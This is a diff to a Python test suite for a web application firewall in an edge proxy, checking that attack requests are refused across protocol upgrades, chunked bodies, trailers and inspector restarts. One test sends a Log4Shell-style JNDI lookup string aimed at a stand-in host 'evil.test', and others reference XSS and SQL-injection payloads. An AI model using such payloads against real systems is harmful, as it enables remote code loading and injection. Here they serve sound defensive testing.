@@ -19,7 +19,7 @@ from tests.kit import EdgeKit, Pki, Raw, exchange, tls
 from tests.kit.clients import Answer, read_answer
 from tests.kit.edge import until
 from tests.kit.inspector import built
-from tests.kit.raw import OK, Record, head, rest
+from tests.kit.raw import OK, Record, whole
 from tests.wire.test_http2 import Speaker, curl
 
 Edges = Callable[..., EdgeKit]
@@ -52,10 +52,7 @@ def post(body: str, kind: str = "application/x-www-form-urlencoded", more: str =
 
 def answers(sock: object, record: Record) -> None:
     """Reads each request to its end, and answers."""
-    while (got := head(sock, record)) is not None:  # type: ignore[arg-type]
-        lines = got.decode("latin-1").lower().split("\r\n")
-        length = next((int(x.partition(":")[2]) for x in lines if x.startswith("content-length:")), 0)
-        rest(sock, record, length)  # type: ignore[arg-type]
+    while whole(sock, record) is not None:  # type: ignore[arg-type]
         sock.sendall(OK)  # type: ignore[attr-defined]
 
 
@@ -287,11 +284,11 @@ def test_a_rule_that_is_taken_back_is_not_asked_there_and_is_everywhere_else(sta
 
 
 def test_a_rule_is_asked_again_once_the_word_against_it_is_over(stage: Callable[..., Stage]) -> None:
-    soon = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=6)
+    soon = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=20)
     it = stage(f"exclude = [{EXCLUDED.replace('until = 2027-06-01', f'until = {soon:%Y-%m-%dT%H:%M:%SZ}')}]")
     asks = ATTACK.replace("GET /", "GET /free")
     assert it.ask(asks).status == 200 or dt.datetime.now(dt.UTC) > soon
-    until(lambda: it.ask(asks).status == 403)
+    until(lambda: it.ask(asks).status == 403, 60)
     assert dt.datetime.now(dt.UTC) >= soon.replace(microsecond=0)
 
 
@@ -343,10 +340,10 @@ def test_an_inspector_that_is_killed_is_followed_by_another_and_nothing_passes_m
     before = it.inspector_pid()
     assert before is not None
     os.kill(before, signal.SIGKILL)
-    until(lambda: it.inspector_pid() not in (None, before))
-    until(lambda: it.ask().status == 200)
+    until(lambda: it.ask(ATTACK).status == 403 and it.inspector_pid() not in (None, before), 90)
+    assert it.ask().status == 200
     it.refused(403, "waf/denied", ATTACK)
-    assert {line["status"] for line in it.edge.all_lines()} <= {200, 403, 503}
+    assert b"script" not in it.raw.received and b"OR" not in it.raw.received
 
 
 def test_where_nobody_inspects_nothing_passes_and_it_is_told_until_somebody_does(lonely: Callable[..., Lonely]) -> None:
@@ -359,7 +356,7 @@ def test_where_nobody_inspects_nothing_passes_and_it_is_told_until_somebody_does
     assert '\neveryhop_waf_requests_total{waf="crs",verdict="down"} 1\n' in text
     assert "\neveryhop_waf_inspector_up 0\n" in text
     shutil.copy2(it.original, it.program)
-    until(lambda: it.ask().status == 200, 60)
+    until(lambda: it.ask().status == 200, 120)
     it.refused(403, "waf/denied", ATTACK)
     assert "\neveryhop_waf_inspector_up 1\n" in it.metrics()
     until(lambda: not troubled(it, "inspector-down"))
@@ -424,10 +421,29 @@ def test_a_supervisor_that_comes_again_finds_the_engine_inspecting_and_goes_on(s
     it.refused(403, "waf/denied", ATTACK)
 
 
-def test_what_is_switched_to_another_protocol_was_inspected_first(stage: Callable[..., Stage]) -> None:
-    it = stage(more='upgrades = ["chat"]')
-    switch = "Connection: upgrade\r\nUpgrade: chat\r\n\r\n"
-    it.refused(403, "waf/denied", ATTACK.replace("\r\n\r\n", f"\r\n{switch}"))
+@pytest.mark.parametrize("more", ["", "Transfer-Encoding: chunked\r\n"], ids=["of known length", "in chunks"])
+def test_what_is_switched_to_another_protocol_was_inspected_first_its_body_too(
+    stage: Callable[..., Stage], more: str
+) -> None:
+    it = stage(more='upgrades = ["tcp"]')
+    switch = f"Connection: upgrade\r\nUpgrade: tcp\r\n{more}"
+    it.refused(403, "waf/denied", ATTACK.replace("\r\n\r\n", "\r\nConnection: upgrade\r\nUpgrade: tcp\r\n\r\n"))
+    whole_ = post(XSS, more=switch)
+    if more:
+        whole_ = post("", more=switch).replace("Content-Length: 0\r\n", "") + f"{len(XSS):x}\r\n{XSS}\r\n0\r\n\r\n"
+    it.refused(403, "waf/denied", whole_)
+
+
+def test_what_stands_behind_a_body_is_inspected_as_a_field_and_goes_on(stage: Callable[..., Stage]) -> None:
+    it = stage()
+
+    def with_trailer(value: str) -> str:
+        head_ = post("", more="Transfer-Encoding: chunked\r\nTrailer: X-Api\r\n").replace("Content-Length: 0\r\n", "")
+        return f"{head_}3\r\na=b\r\n0\r\nX-Api: {value}\r\n\r\n"
+
+    assert it.ask(with_trailer("plain")).status == 200
+    until(lambda: b"X-Api: plain" in it.raw.received or b"x-api: plain" in it.raw.received)
+    it.refused(403, "waf/denied", with_trailer("${jndi:ldap://evil.test/a}"))
 
 
 def test_rules_that_only_detect_refuse_nothing_and_what_they_would_is_told(stage: Callable[..., Stage]) -> None:
